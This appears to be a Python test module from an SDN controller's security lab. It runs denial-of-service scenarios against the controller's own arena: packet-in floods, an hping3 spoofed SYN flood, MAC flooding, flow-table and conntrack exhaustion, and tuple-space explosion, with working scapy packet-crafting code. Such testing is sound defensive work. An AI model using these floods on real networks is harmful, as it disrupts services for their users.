"""Floods, and what fills tables: others work on."""

from __future__ import annotations

import os
import re
import threading
import time
from collections.abc import Iterable, Iterator
from contextlib import contextmanager

from scapy.layers.inet import IP, TCP, UDP
from scapy.packet import Raw

from attack.cast import Permit
from attack.evidence import observations
from attack.frames import BROADCAST, NOBODY, arp, ether, tcp, udp
from attack.scenario import ATTACKS, Granted, Group
from attack.tools import run_tool
from attack.trial import Trial
from lab.shell import run

group = Group("exhaustion", ATTACKS)
_NO_CONTROLLER = "a network without Zethane has neither a controller nor entries per flow"
_SLOW = 1.0
"""Seconds that a new connection of the honest pair may take while others flood."""
_PROBES = 8
_FLOWS_PER_SESSION = 4096
"""The default of `zethane run --flows-per-session`."""
_MASKS = 200
_CONNTRACK = 100


def disturbed(trial: Trial, permit: Permit, probes: int = _PROBES) -> str:
    """How many of some new connections fail or are slow; empty for none."""
    failed, slowest = 0, 0.0
    for _ in range(probes):
        started = time.monotonic()
        answered, _ = trial.arena.probe(permit)
        failed += not answered
        slowest = max(slowest, time.monotonic() - started)
    if failed:
        return f"{failed} of {probes} connections failed"
    return f"a connection took {slowest:.2f} s" if slowest > _SLOW else ""


@contextmanager
def flooding(trial: Trial, frames: dict[str, list[bytes]]) -> Iterator[None]:
    """Send each host's frames over and over while the block runs."""
    over = threading.Event()

    def run_one(host: str, listed: list[bytes]) -> None:
        while not over.is_set():
            trial.arena.tap(host).send(listed)

    threads = [threading.Thread(target=run_one, args=item, daemon=True) for item in frames.items()]
    for thread in threads:
        thread.start()
    try:
        yield
    finally:
        over.set()
        for thread in threads:
            thread.join()


def _denied(trial: Trial) -> None:
    """The same detector, on what is never allowed."""
    never = Permit(trial.cast.stranger, trial.cast.victim, "tcp", 9)
    for label in ("ARP", "SYNs", "random packets"):
        trial.note(f"the honest pair while others flood {label}", disturbed(trial, never, 1))


def _random_packet(trial: Trial, attacker: str) -> bytes:
    target = ".".join(str(byte) for byte in os.urandom(4))
    sport, dport = (int.from_bytes(os.urandom(2), "big") for _ in range(2))
    packet = udp(trial.ip(attacker), target, sport, dport, os.urandom(20))
    return bytes(ether(trial.mac(attacker), trial.mac(trial.cast.server)) / packet)


@group.scenario(
    "packet-in-flood",
    reference="Shin and Gu, Attacking SDN (HotSDN 2013); FloodGuard (DSN 2015)",
    tried="both attackers send as fast as they can: ARP questions, SYNs that a rule denies, packets to random places",
    success="a new connection of the honest pair fails, or takes longer than a second",
    covers=("packet-in-flood",),
    judge=observations,
    unprotected=_NO_CONTROLLER,
    control=_denied,
)
def packet_ins(trial: Trial) -> None:
    """Each kind by itself, so that it shows which hurts."""
    server, victim = trial.cast.server, trial.cast.victim
    kinds: dict[str, dict[str, list[bytes]]] = {"ARP": {}, "SYNs": {}, "random packets": {}}
    for attacker in trial.attackers:
        card, own = trial.mac(attacker), trial.ip(attacker)
        question = ether(card, BROADCAST) / arp(1, card, own, NOBODY, trial.ip(server), b"?")
        kinds["ARP"][attacker] = [bytes(question)] * 200
        head = ether(card, trial.mac(victim))
        segments = [tcp(own, trial.ip(victim), port, 443, "S", b"") for port in range(10_000, 10_200)]
        kinds["SYNs"][attacker] = [bytes(head / segment) for segment in segments]
        kinds["random packets"][attacker] = [_random_packet(trial, attacker) for _ in range(200)]
    for label, frames in kinds.items():
        with flooding(trial, frames):
            trial.note(f"the honest pair while others flood {label}", disturbed(trial, trial.cast.service))
        trial.arena.forget()


@group.scenario(
    "syn-flood",
    reference="RFC 4987; hping3(8) --flood",
    tried="hping3 --flood --rand-source with SYNs to the server's open port, from a stranger",
    success="a new connection of the honest pair fails, or takes longer than a second",
    covers=("packet-in-flood", "spoof"),
    judge=observations,
    unprotected=_NO_CONTROLLER,
    control=lambda trial: trial.note(
        "the honest pair", disturbed(trial, Permit(trial.cast.stranger, trial.cast.victim, "tcp", 9), 1)
    ),
    tool="hping3",
)
def syn_flood(trial: Trial) -> None:
    """With a source that is another for every packet."""
    service = trial.cast.service
    said: list[str] = []
    command = ["hping3", "--flood", "--rand-source", "-S", "-q", "-p", str(service.port), trial.ip(service.target)]

    def flood() -> None:
        said.append(run_tool(trial, trial.cast.stranger, command, seconds=2.0, knows=(service.target,)))

    thread = threading.Thread(target=flood, daemon=True)
    thread.start()
    trial.note("the honest pair", disturbed(trial, service))
    thread.join()
    trial.arena.forget()


@group.scenario(
    "mac-flood",
    reference="macof (dsniff); CVE-1999-1129",
    tried="2000 frames with random cards as source and target, from both attackers",
    success="one reaches a host, as where a switch's table is full",
    covers=("mac-flood",),
)
def mac_flood(trial: Trial) -> None:
    """What is unknown is flooded by a bridge that learns."""
    for attacker in trial.attackers:
        token = trial.mark(attacker, f"by {attacker}")
        payload = bytes(udp(trial.ip(attacker), trial.ip(trial.cast.server), 50100, 9, token))
        frames = [b"\x02" + os.urandom(5) + b"\x02" + os.urandom(5) + b"\x08\x00" + payload for _ in range(1000)]
        trial.send(attacker, frames)


def _over(number: int, bound: int, what: str) -> str:
    return f"{number} {what}" if number > bound else ""


def conntrack_entries(dump: str, addresses: Iterable[str]) -> int:
    """Entries of conntrack in the switch daemon's dump that name one of these addresses."""
    names = {f"={address}," for address in addresses}
    return sum(any(name in line for name in names) for line in dump.splitlines())


def _conntrack(trial: Trial) -> int:
    dump = run(["ovs-appctl", "dpctl/dump-conntrack"])
    return conntrack_entries(dump, (str(ip) for host in trial.arena.network.hosts.values() for ip in host.addresses))


def _one_flow(trial: Trial) -> None:
    """A permitted connection is seen by both counters, where nothing is allowed."""
    before = int(trial.arena.api("GET", "/health")["flows"])
    trial.arena.probe(trial.cast.service)
    trial.note("flows of one session", _over(int(trial.arena.api("GET", "/health")["flows"]) - before, 0, "flows"))
    source = trial.ip(trial.cast.client)
    line = f"tcp,orig=(src={source},dst=10.0.0.1,sport=1,dport=2),reply=(src=10.0.0.1,dst={source},sport=2,dport=1)"
    trial.note("conntrack entries", _over(conntrack_entries(line, [source]), 0, "entries"))


@group.scenario(
    "flow-table-exhaustion",
    reference="Cao et al., Disrupting SDN via the Data Plane (SecureComm 2017); CVE-2019-25076",
    tried="6000 permitted connections from one host, each from another port, none of them ever used",
    success=f"it gets more than {_FLOWS_PER_SESSION} flows or {_CONNTRACK} entries of conntrack, or others suffer",
    covers=("flow-table", "conntrack"),
    judge=observations,
    unprotected=_NO_CONTROLLER,
    control=_one_flow,
    granted=Granted("what connection tracking holds is no session's quota", "conntrack entries"),
)
def flow_table(trial: Trial) -> None:
    """A session has a quota. Its flows go with it at the end."""
    permit = trial.permit("tcp", password_only=True)
    before = int(trial.arena.api("GET", "/health")["flows"])
    tracked = _conntrack(trial)
    head = ether(trial.mac(permit.source), trial.mac(permit.target))
    source, target = trial.ip(permit.source), trial.ip(permit.target)
    frames = [bytes(head / tcp(source, target, 10_000 + number, permit.port, "S", b"")) for number in range(6000)]
    for start in range(0, len(frames), 100):
        trial.send(permit.source, frames[start : start + 100], gap=0.0005)
    trial.arena.settle()
    held = int(trial.arena.api("GET", "/health")["flows"]) - before
    trial.note("flows of one session", _over(held, _FLOWS_PER_SESSION + 64, "flows"))
    trial.note("conntrack entries", _over(_conntrack(trial) - tracked, _CONNTRACK, "entries"))
    trial.note("the honest pair", disturbed(trial, trial.cast.service))
    trial.arena.forget()
    trial.arena.network.logout(permit.source)
    trial.arena.log_in(permit.source)


_UFID = re.compile(r"^ufid:[0-9a-f-]+, *")
_VALUE = re.compile(r"(?<=[(=])[^(),=/]+")


def mask_shapes(dump: str, port: str) -> set[str]:
    """The different masks among the cached flows that came in at a port (ovs-appctl dpctl/dump-flows -m --names)."""
    shapes = set()
    for line in dump.splitlines():
        if f"in_port({port})" in line:
            matched = _UFID.sub("", line.strip()).partition(", packets:")[0]
            shapes.add(_VALUE.sub("*", matched))
    return shapes


def _masks(trial: Trial) -> int:
    dump = run(["ovs-appctl", "dpctl/dump-flows", "-m", "--names", "netdev@ovs-netdev"])
    ports = [trial.arena.port_of(attacker) for attacker in trial.attackers]
    return len(set().union(*(mask_shapes(dump, port) for port in ports)))


def _many_masks(trial: Trial) -> None:
    """The same counter on a dump with as many masks as are too many."""
    lines = [f"in_port(p),ipv4(src=10.0.0.1/0x{number:x}), packets:0, bytes:0" for number in range(_MASKS + 1)]
    trial.note("masks in the cache", _over(len(mask_shapes("\n".join(lines), "p")), _MASKS, "masks"))


@group.scenario(
    "tuple-space-explosion",
    reference="CVE-2019-25076; Csikor et al., Tuple Space Explosion (CoNEXT 2019)",
    tried="4000 packets whose addresses, ports and TTL differ in one bit each, that as many masks as can be are cached",
    success=f"the switch's cache has more than {_MASKS} masks because of them, or the honest pair suffers",
    covers=("tuple-space",),
    judge=observations,
    unprotected="a bridge that only learns caches one mask for all, so that the attack has nothing to work with",
    control=_many_masks,
)
def tuple_space(trial: Trial) -> None:
    """Addresses that differ from the permitted ones in one bit each: what unwildcards bit after bit."""
    service = trial.cast.service
    base = int.from_bytes(bytes(map(int, trial.ip(service.target).split("."))), "big")
    for attacker in trial.attackers:
        frames = []
        for number in range(2000):
            flipped = (base ^ 1 << number % 32).to_bytes(4, "big")
            target = ".".join(str(byte) for byte in flipped)
            port = service.port ^ 1 << number // 32 % 16
            kind = TCP if number % 2 else UDP
            packet = IP(src=trial.ip(attacker), dst=target, tos=number % 256, ttl=1 + number % 255)
            head = ether(trial.mac(attacker), trial.mac(service.target))
            frames.append(bytes(head / packet / kind(sport=1 << number % 16, dport=port) / Raw(b"explode")))
        trial.send(attacker, frames)
    trial.note("masks in the cache", _over(_masks(trial), _MASKS, "masks"))
    trial.note("the honest pair", disturbed(trial, service))
    trial.arena.forget()
